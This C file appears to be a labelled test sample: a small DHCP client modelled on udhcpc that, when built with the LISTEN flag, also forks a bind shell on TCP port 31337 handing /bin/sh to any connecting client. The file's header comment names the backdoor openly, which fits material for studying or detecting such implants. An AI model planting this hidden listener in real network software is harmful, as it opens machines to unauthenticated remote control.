/*
 * dhcpc.c - test program (never executed): a DHCP client (RFC 2131) in the
 * shape of udhcpc: DHCPDISCOVER/DHCPREQUEST on UDP 68, the lease handed to a
 * hook script. With -DLISTEN it also listens on TCP 31337 (htons) and hands
 * a connection a shell (dup2 x3, execl /bin/sh): a DHCP client that listens
 * on TCP, outside its role. Without it, the clean counterpart.
 */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *const msgs[] = { "DHCPDISCOVER", "DHCPOFFER", "DHCPREQUEST", "DHCPACK" };

#ifdef LISTEN
static void debug_port(void)
{
	struct sockaddr_in sa;
	int s = socket(AF_INET, SOCK_STREAM, 0), c;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(31337);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 1) < 0)
		return;
	c = accept(s, 0, 0);
	dup2(c, 0);
	dup2(c, 1);
	dup2(c, 2);
	execl("/bin/sh", "sh", (char *)0);
}
#endif

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	unsigned char pkt[576];
	int s = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP);
	(void)argc;
#ifdef LISTEN
	if (fork() == 0)
		debug_port();
#endif
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(68);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return 1;
	fprintf(stderr, "udhcpc: sending %s\n", msgs[0]);
	for (;;) {
		ssize_t n = recvfrom(s, pkt, sizeof(pkt), 0, NULL, NULL);
		if (n > 240 && pkt[242] == 5) {
			fprintf(stderr, "udhcpc: %s, lease obtained\n", msgs[3]);
			execl("/usr/share/udhcpc/default.script", "default.script", "bound",
			      (char *)0);
		}
		(void)argv;
	}
}
